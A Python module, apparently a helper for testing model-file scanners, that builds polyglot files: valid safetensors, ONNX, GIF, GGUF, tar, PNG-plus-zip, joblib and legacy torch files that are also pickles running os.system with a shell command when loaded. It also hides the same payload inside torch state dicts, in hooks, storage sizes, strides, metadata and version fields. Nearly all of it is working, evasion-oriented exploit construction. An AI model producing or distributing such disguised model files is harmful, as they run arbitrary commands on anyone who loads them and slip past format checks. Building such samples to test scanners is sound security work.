"""Files that are two things at once: an honest file of one format, and a pickle from its first byte.

A mutation helper of `mutated.py`; it has no cases of its own.
"""

from __future__ import annotations

import json
import struct
import zlib

from attacks.case import SHELL, Raw, call, called, glob, push, stack_glob, stream
from attacks.containers import MAGIC, npy, tarred, torch_zip, zipped

PLAIN = b"cos\nsystem\n(V" + SHELL.encode() + b"\ntR."
"""A payload in printable characters."""
BODY = bytes(glob("os", "system") + push((SHELL,)) + b"R.")


def safetensors_pickle(body: bytes = BODY) -> bytes:
    """Valid safetensors. The header's length is a BINUNICODE of 100 bytes; in a metadata text, SHORT_BINSTRINGs lead past the header."""
    taken = 100
    total = taken << 8 | ord("X")
    data = body.ljust((len(body) + 63) // 64 * 64, b"\0")
    entry = {"dtype": "U8", "shape": [len(data)], "data_offsets": [0, len(data)]}
    # The first three of the taken bytes are the zeros of the length.
    head = '{"__metadata__":{"format":"pt","note":"'.ljust(taken - 3, "a")
    back = '"},"weight":' + json.dumps(entry, separators=(",", ":")) + "}"
    blocks, last = divmod(total - len(head), 128)
    header = head + ("U~" + "b" * 126) * blocks + "U" + chr(last - 2) + back.rjust(last - 2, "c")
    return struct.pack("<Q", total) + header.encode() + data


def onnx_pickle(payload: bytes = PLAIN) -> bytes:
    """A valid ONNX model: its fields come in an order that makes the version a MARK and the documentation a pickle."""
    text = payload.ljust(125, b" ")
    if len(text) != 125:
        raise ValueError("the payload is too long for a length of one byte")
    value = lambda name: b"\x0a\x01" + name + b"\x12\x0a\x0a\x08\x08\x01\x12\x04\x0a\x02\x08\x04"  # noqa: E731
    node = b"\x0a\x01x\x12\x01y\x22\x04Relu"
    fields = b"\x0a" + bytes([len(node)]) + node + b"\x12\x01g"
    fields += b"\x5a" + bytes([len(value(b"x"))]) + value(b"x") + b"\x62" + bytes([len(value(b"y"))]) + value(b"y")
    graph = b"\x3a" + bytes([len(fields)]) + fields
    return b"\x28N" + b"2}" + text + b"\x08\x0a" + graph + b"\x42\x02\x10\x14"


def gif_pickle(body: bytes = BODY) -> bytes:
    """A valid GIF. BINFLOAT takes the magic, the height ends in POP, bytes of three take the head of a comment: the payload."""
    screen = b"\x10\0\x10" + b"0" + b"NC\x03"
    image = b",\0\0\0\0\1\0\1\0\x80" + bytes(6) + b"\2\2D\1\0"
    return b"GIF89a" + screen + b"!\xfe" + bytes([len(body)]) + body + b"\0" + image + b";"


def gguf_pickle(body: bytes = BODY) -> bytes:
    """The magic and version of GGUF are a BINFLOAT; the counts and keys are opcodes."""
    return b"GGUF\3\0\0\0\0" + b"0" + b"N0N0N0" + body


def tar_pickle() -> bytes:
    """A tar whose first member's name is a pickle."""
    return tarred([(PLAIN.decode(), b""), ("weights.bin", bytes(64))])


def tar_of(streams: dict[str, bytes]) -> bytes:
    """torch's oldest form: a tar of three members of pickles."""
    members = {
        "storages": stream(push(0), 2) + stream(b"]", 2),
        "tensors": stream(push(0), 2),
        "pickle": stream(b"N", 2),
    }
    return tarred(list({**members, **streams}.items()))


def framed_zip(evil: bytes, honest: bytes) -> bytes:
    """A pickle that holds an honest archive as bytes that it drops, so that the archive ends where the file does."""
    archive = torch_zip(honest)
    return b"\x80\x04" + evil[2:-1] + b"0N." + archive


def png_zip(archive: bytes) -> bytes:
    """A PNG of one pixel, then an archive."""
    out = b"\x89PNG\r\n\x1a\n"
    for kind, body in (
        (b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)),
        (b"IDAT", zlib.compress(b"\0\0")),
        (b"IEND", b""),
    ):
        out += struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    return out + archive


def zfile(evil: bytes) -> bytes:
    """joblib's form of before 0.10: ZF, a length in hexadecimal, zlib."""
    return b"ZF" + hex(len(evil)).encode().ljust(19) + zlib.compress(evil)


def joblib_arrays(inside: bytes, after: bytes, *, kind: str = "<f4", padding: int | None = None) -> bytes:
    """A joblib pickle in whose midst an array's bytes lie, right behind the BUILD of their wrapper."""
    wrapper = glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
    dtype = call("numpy", "dtype", "O8" if kind == "O" else kind)
    count = 1 if kind == "O" else len(inside) // 4
    state = {"subclass": glob("numpy", "ndarray"), "shape": (count,), "order": "C", "dtype": dtype, "allow_mmap": False}
    pad = b""
    if padding is not None:
        state["numpy_array_alignment_bytes"] = 16
        pad = bytes([padding]) + b"\xff" * padding
    return b"\x80\x03" + wrapper + push(state) + b"b" + pad + inside + after


def polyglots(evil: bytes, good: bytes) -> list[tuple[str, bytes, str, str, str]]:
    """Name, bytes, path, loader, note."""
    arrays = zipped([("a.npy", npy("<f4", bytes(4)))])
    number = stream(b"\x8a\x0a" + MAGIC.to_bytes(10, "little"), 2)
    return [
        ("safetensors-as-pickle", safetensors_pickle(), "model.bin", "pickle", "valid safetensors that is a pickle from its first byte"),
        ("safetensors-as-torch", safetensors_pickle(), "pytorch_model.bin", "torch", "valid safetensors that torch unpickles"),
        ("safetensors-named", safetensors_pickle(), "model.safetensors", "pickle", "valid safetensors under its own name"),
        ("onnx-as-pickle", onnx_pickle(), "model.bin", "pickle", "valid ONNX that is a pickle from its first byte"),
        ("onnx-as-torch", onnx_pickle(), "model.pt", "torch", "valid ONNX that torch unpickles"),
        ("onnx-as-joblib", onnx_pickle(), "model.onnx", "joblib", "valid ONNX that joblib unpickles"),
        ("onnx-as-onnx", onnx_pickle(), "model.onnx", "none", "the same file where the name is right: nothing runs"),
        ("gif-as-pickle", gif_pickle(), "preview.gif", "pickle", "valid GIF with a comment that is a pickle"),
        ("gguf-as-pickle", gguf_pickle(), "model.gguf", "pickle", "GGUF header that is a float"),
        ("gguf-as-torch", gguf_pickle(), "model.gguf.bin", "torch", "GGUF header that torch unpickles"),
        ("tar-name-is-pickle", tar_pickle(), "model.tar", "pickle", "tar whose first name is a pickle"),
        ("tar-name-is-joblib", tar_pickle(), "model.pkl", "joblib", "tar whose first name is a pickle"),
        ("torch-tar-storages", tar_of({"storages": evil}), "model.pt", "torch", "oldest torch form, in the storages"),
        ("torch-tar-views", tar_of({"storages": stream(push(0), 2) + evil}), "model.pth", "torch", "oldest torch form, in the storage views"),
        ("torch-tar-tensors", tar_of({"tensors": evil}), "model.pth", "torch", "oldest torch form, in the tensors"),
        ("torch-tar-pickle", tar_of({"pickle": evil}), "model.bin", "torch", "oldest torch form, in the pickle"),
        ("pickle-then-torch-zip", evil + torch_zip(good), "model.pkl", "pickle", "a pickle, then a whole honest torch archive"),
        ("pickle-then-torch-zip-pt", framed_zip(evil, good), "model.pt", "torch", "torch reads the pickle, zip tools the archive"),
        ("pickle-then-npz", evil + arrays, "weights.npz", "numpy", "numpy reads the pickle, zip tools the arrays"),
        ("pickle-then-npy", evil + npy("<f4", bytes(4)), "weights.npy", "numpy", "a pickle under numpy's suffix"),
        ("pickle-then-safetensors", evil + struct.pack("<Q", 2) + b"{}", "model.safetensors", "pickle", "a pickle under the suffix of safetensors"),
        ("png-then-pandas-zip", png_zip(zipped([("x", evil)])), "frame.zip", "pandas", "a PNG, then an archive"),
        ("joblib-zfile", zfile(evil), "model.pkl", "joblib", "joblib's form of before 0.10"),
        ("joblib-object-array", joblib_arrays(evil, b".", kind="O"), "model.joblib", "joblib", "a second pickle right behind a BUILD"),
        ("joblib-after-array", joblib_arrays(b".\x80\x04N." * 80, b"0" + BODY), "model.joblib", "joblib", "after an array whose bytes look like the end"),
        ("joblib-after-padded-array", joblib_arrays(bytes(16) + b"X\xff\xff\xff\x7f" * 16, b"0" + BODY, padding=200), "model.pkl", "joblib", "after padding and an array that looks like a long text"),
        ("torch-legacy-number-nested", number + stream(push(1001), 2) + evil, "model.pt", "torch", "torch's older form, cut after the payload"),
    ]  # fmt: skip


def tensor(key: str, numel: int = 4, hooks: bytes | None = None, size: Raw | None = None) -> Raw:
    """A tensor as torch writes it: its storage by persistent id."""
    place = Raw(push(("storage", glob("torch", "FloatStorage"), key, "cpu", size or numel)) + b"Q")
    return call(
        "torch._utils",
        "_rebuild_tensor_v2",
        place,
        0,
        (numel,),
        (1,),
        Raw(b"\x89"),
        Raw(hooks or call("collections", "OrderedDict")),
    )


def state_dict(where: str, payload: Raw, *, legacy: bool = False) -> bytes:
    """A state dict of tensors with a payload in one place."""

    def tensor_of(key: str) -> Raw:
        made = tensor(
            key,
            hooks=hooked if key == "1" and where == "hooks" else None,
            size=sized if key == "1" and where == "storage-size" else None,
        )
        return Raw(old_form(made)) if legacy else made

    hooked = Raw(call("collections", "OrderedDict") + b"(" + push("x") + payload + b"u")
    sized = Raw(call("operator", "add", payload, 4))
    middle = called(stack_glob("operator", "or_"), payload, 7) if where == "value" else tensor_of("1")
    if where == "parameter":
        middle = call(
            "torch._utils",
            "_rebuild_parameter_with_state",
            tensor_of("1"),
            Raw(b"\x88"),
            call("collections", "OrderedDict"),
            {"note": payload},
        )
    if where == "strides":
        middle = call(
            "torch._utils",
            "_rebuild_tensor",
            Raw(push(("storage", glob("torch", "FloatStorage"), "1", "cpu", 4)) + b"Q"),
            payload,
            (4,),
            (1,),
        )
    items = (
        push("layer.0.weight")
        + tensor_of("0")
        + push("layer.0.bias")
        + middle
        + push("layer.1.weight")
        + tensor_of("2")
    )
    whole = call("collections", "OrderedDict") + b"(" + items + b"u"
    metadata = payload if where == "metadata" else push({"version": 1})
    return b"\x80\x04" + whole + b"}" + push("_metadata") + metadata + b"sb."


def old_form(code: bytes) -> bytes:
    """torch's older form has a view as the sixth part of a persistent id."""
    return code.replace(b"tQ", b"NtQ")


def torch_states(payload: Raw) -> list[tuple[str, bytes, str, str, str]]:
    """Real state dicts of three tensors, in torch's archive and in its older form."""
    storages = tuple((f"archive/data/{n}", bytes(16)) for n in range(3))
    rows = []
    for where in ("value", "hooks", "storage-size", "parameter", "strides", "metadata"):
        data = state_dict(where, payload)
        note = f"a state dict of tensors with the payload as {where.replace('-', ' ')}"
        rows.append((f"torch-{where}", torch_zip(data, more=storages), "model.pt", "torch", note))
    number = b"\x8a\x0a" + MAGIC.to_bytes(10, "little")
    info = push({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}})
    start = stream(number, 2) + stream(push(1001), 2) + stream(info, 2)
    body = (struct.pack("<q", 4) + bytes(16)) * 3
    for where in ("value", "hooks", "metadata"):
        legacy = start + state_dict(where, payload, legacy=True) + stream(push(["0", "1", "2"]), 2) + body
        rows.append(
            (
                f"torch-legacy-{where}",
                legacy,
                "model.bin",
                "torch",
                f"torch's older form with tensors, the payload as {where}",
            )
        )
    keys = Raw(b"](" + push("0") + push("1") + push("2") + b"e" + payload + b"0")
    honest = state_dict("none", payload, legacy=True)
    rows.append(
        (
            "torch-legacy-keys",
            start + honest + stream(keys, 4) + body,
            "model.bin",
            "torch",
            "torch's older form, beside the storage keys",
        )
    )
    version = stream(Raw(payload + b"0" + push(1001)), 4)
    rest = stream(info, 2) + honest + stream(push(["0", "1", "2"]), 2) + body
    rows.append(
        (
            "torch-legacy-version",
            stream(number, 2) + version + rest,
            "model.bin",
            "torch",
            "torch's older form, before the version",
        )
    )
    return rows
